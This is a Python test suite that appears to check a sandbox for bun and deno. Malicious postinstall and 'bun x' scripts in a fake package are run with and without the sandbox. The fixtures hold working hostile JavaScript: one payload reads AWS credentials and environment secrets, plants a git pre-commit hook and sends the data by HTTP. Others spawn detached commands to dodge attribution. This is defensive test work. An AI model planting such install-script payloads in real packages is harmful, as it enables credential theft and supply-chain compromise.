"""bun and deno are interpreters, too: what is run by the very program that is a package manager is none.
Packages whose scripts were approved try to have its rights. It is the registry that tells whether a
request for `loot` came through."""

import os
import pathlib
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
from harness import SECRET, test  # noqa: E402
from local_server import LocalServer  # noqa: E402
from places import Places  # noqa: E402

FACTS = {"stops": "attribution", "event": "flow.denied"}

FIXTURES = pathlib.Path(os.environ.get("SANDBOX_RUN_FIXTURES") or "build-test-fixtures").absolute()
INSTALL = {"bun": ("bun", "install"), "deno": ("deno", "install", "--allow-scripts")}
CACHES = (".bun", ".cache/deno")
MARKS = {"bunfig.toml": "", "deno.json": "{}\n"}  # of a project that uses them
HEAD = "const {execSync} = require('child_process'); const fs = require('fs');\n" \
       "const attempt = act => { try { act() } catch {} };\n"


class Scene:
    """A project that depends on `evil`, whose scripts may run; `prepare` adds packages to the registry."""

    def __init__(self, t, manager, files, scripts, more=None, project=None):
        self.t, self.places = t, Places(t)
        self.registry = self.places.registry
        self.registry.add("loot", "1.0.0", {"cli.js": "#!/usr/bin/env node\n"}, more={"bin": {"loot": "cli.js"}})
        self.registry.add("evil", "1.0.0", files, scripts=scripts, more=more)
        self.app = self.places.root / "app"
        self.places.manifest("app", dependencies={"evil": "1.0.0"}, trustedDependencies=["evil"], **(project or {}))
        prefix = FIXTURES / manager / "prefix"
        t.true(prefix.exists(), f"no {prefix}: tests/support/package_managers.py makes it")
        self.env = {**self.places.env, "PATH": f"{prefix}/bin:{t.env['PATH']}",
                    "BUN_CONFIG_REGISTRY": self.registry.url(), "NPM_CONFIG_REGISTRY": self.registry.url()}

    def asked(self):
        return [path for path in self.registry.requests if path.startswith("/loot")]

    def bare(self, *command, look=lambda: None):
        """The control run, and what `look` sees then; afterwards the project is as before."""
        kept = (self.app / "package.json").read_text()
        result = self.t.bare(*command, cwd=self.app, env=self.env)
        # deno may end before a script does, which goes on asking.
        quiet, seen = 0, -1
        while quiet < 8:
            quiet, seen = (quiet + 1 if seen == len(self.registry.requests) else 0), len(self.registry.requests)
            time.sleep(0.1)
        loot = self.asked()
        look()
        for path in [*self.app.iterdir(), *(self.t.home / name for name in CACHES)]:
            if path.exists() or path.is_symlink():
                self.places.clean(path)
        self.t.write(self.app / "package.json", kept)
        for name in MARKS:
            self.t.write(self.app / name, MARKS[name])
        self.registry.requests.clear()
        return result, loot

    def sandbox(self, *command, options=()):
        result = self.t.sandbox(*command, cwd=self.app, env=self.env, options=options)
        self.t.true(any("evil" in path for path in self.registry.requests), f"evil was installed: {result}")
        return result


def no_loot(title, manager, script, *, command=None, more=None, by="postinstall", shell=None, project=None):
    """`script` asks the registry for `loot`: in JavaScript, run by evil's script; or the script's own `shell`
    text."""

    def body(t):
        scripts = {by: shell or "node attack.js"} if by else {}
        scene = Scene(t, manager, {"attack.js": "#!/usr/bin/env node\n" + HEAD + script, "index.js": "",
                                   "bun.js": "#!/usr/bin/env bun\n" + HEAD + script}, scripts, more, project)
        words = command or INSTALL[manager]
        # One that starts itself so waits for itself.
        bare, loot = scene.bare("timeout", "-s", "KILL", "25", *words)
        t.true(loot, f"control: the attack works: {bare}")
        result = scene.sandbox(*words, options=("--timeout", "40s"))
        t.equal(scene.asked(), [], f"the registry was asked for loot: {result}")

    body.__doc__ = f"{manager}: {title}"
    test(body, time_limit=120, one_by_day=True)


for name, again in (("bun", "bun add loot"), ("deno", "deno add npm:loot")):
    folder = "fs.mkdirSync('/tmp/own', {recursive: true}); fs.writeFileSync('/tmp/own/package.json', '{}');"
    no_loot("a dependency's script that starts it gets no registry", name,
            f"{folder} attempt(() => execSync('{again}', {{cwd: '/tmp/own'}}))")
    no_loot("…nor without a variable of a script's, in a new session", name,
            f"{folder} attempt(() => execSync('setsid env -i PATH=' + process.env.PATH + ' HOME=/tmp BUN_CONFIG_REGISTRY=' + "
            f"process.env.BUN_CONFIG_REGISTRY + ' NPM_CONFIG_REGISTRY=' + process.env.NPM_CONFIG_REGISTRY + ' {again}', "
            "{cwd: '/tmp/own'}))")
    no_loot("…nor in a shell command of the user's", name,
            f"{folder} attempt(() => execSync('{again}', {{cwd: '/tmp/own'}}))",
            command=("sh", "-c", " ".join(INSTALL[name]) + "; true"))

no_loot("…nor from another directory, unmarked by its shell's own words", "deno", "",
        shell="mkdir -p /tmp/own && cd /tmp/own && unset DENO_INTERNAL_IS_LIFECYCLE_SCRIPT && DENO_DIR=/tmp/own/d deno info npm:loot || true")
no_loot("…nor so, by its shell's own words, in a shell command of the user's", "deno", "",
        shell="mkdir -p /tmp/own && cd /tmp/own && unset DENO_INTERNAL_IS_LIFECYCLE_SCRIPT && DENO_DIR=/tmp/own/d deno info npm:loot || true",
        command=("sh", "-c", "deno install --allow-scripts; true"))

FETCH = "fetch(process.env.BUN_CONFIG_REGISTRY + 'loot').catch(() => {})"
for title, program, words in (("a program that bun x runs", "attack.js", ("bun", "x", "evil")),
                              ("a program that bun x runs by bun", "bun.js", ("bun", "x", "evil")),
                              ("a program that bun x runs by bun in node's place", "attack.js", ("bun", "--bun", "x", "evil")),
                              ("a program that bun create runs", "attack.js", ("bun", "create", "evil", "x"))):
    name = "create-evil" if "create" in words else "evil"

    def body(t, program=program, words=words, name=name):
        files = {"attack.js": "#!/usr/bin/env node\n" + FETCH, "bun.js": "#!/usr/bin/env bun\n" + FETCH}
        scene = Scene(t, "bun", files, {}, more={"bin": {name: program}})
        scene.registry.add("create-evil", "1.0.0", files, more={"bin": {name: program}})
        bare, loot = scene.bare(*words)
        t.true(loot, f"control: the attack works: {bare}")
        result = scene.sandbox(*words)
        t.equal(scene.asked(), [], f"the registry was asked for loot: {result}")

    body.__doc__ = f"bun: {title} gets no registry"
    test(body, time_limit=120, one_by_day=True)


@test(time_limit=120)
def a_program_of_deno_x(t):
    """deno: a program that deno x runs gets no registry"""
    scene = Scene(t, "deno", {"attack.js": "#!/usr/bin/env node\n" + FETCH}, {}, more={"bin": {"evil": "attack.js"}})
    words = ("deno", "x", "-A", "-y", "npm:evil")
    bare, loot = scene.bare(*words)
    t.true(loot, f"control: the attack works: {bare}")
    t.equal((scene.sandbox(*words), scene.asked())[1], [], "the registry was asked for loot")


STEAL = """
const home = require('os').homedir(), app = process.env.INIT_CWD;
const got = {aws: '', environment: JSON.stringify(process.env)};
attempt(() => { got.aws = fs.readFileSync(home + '/.aws/credentials', 'utf8') });
attempt(() => { fs.mkdirSync(app + '/.git/hooks', {recursive: true}); fs.writeFileSync(app + '/.git/hooks/pre-commit', 'evil', {mode: 0o755}) });
const request = require('http').request({host: '127.0.0.1', port: @PORT@, path: '/' + encodeURIComponent(JSON.stringify(got)).slice(0, 60000)});
request.on('error', () => {}); request.end();
"""


def steals(manager):
    def body(t):
        service = LocalServer({"/": b""})
        scene = Scene(t, manager, {"attack.js": HEAD + STEAL.replace("@PORT@", str(service.port)), "index.js": ""},
                      {"postinstall": "node attack.js"})
        scene.env |= {"NPM_TOKEN": SECRET}
        t.succeeded(t.bare("git", "init", "-q", cwd=scene.app))
        hook = scene.app / ".git/hooks/pre-commit"
        planted = []
        bare, _ = scene.bare(*INSTALL[manager], look=lambda: planted.append(hook.read_text()))
        t.true(any(SECRET in path for path in service.requests), f"control: it steals: {bare} {service.requests}")
        t.equal(planted, ["evil"], "control: it plants")
        t.succeeded(t.bare("git", "init", "-q", cwd=scene.app))
        service.requests.clear()
        result = scene.sandbox(*INSTALL[manager])
        t.equal(service.requests, [], f"nothing was sent: {result}")
        t.true(not hook.exists(), f"nothing was planted: {result}")
        actor = {"kind": "script", "package": "evil", "version": "1.0.0", "event": "postinstall"}
        for kind in ("decoy.opened", "change.protected", "flow.denied"):
            found = [e for e in result.events if e["type"] == kind and e.get("actor") == actor]
            t.true(found, f"{kind} by its name: {result} {[(e['type'], e.get('actor')) for e in result.events]}")
        t.true(any(e["severity"] == "alert" for e in result.events), "an alert")

    body.__doc__ = f"{manager}: an approved script steals nothing, plants nothing, and is named"
    test(body, time_limit=120, one_by_day=True)


for name in INSTALL:
    steals(name)
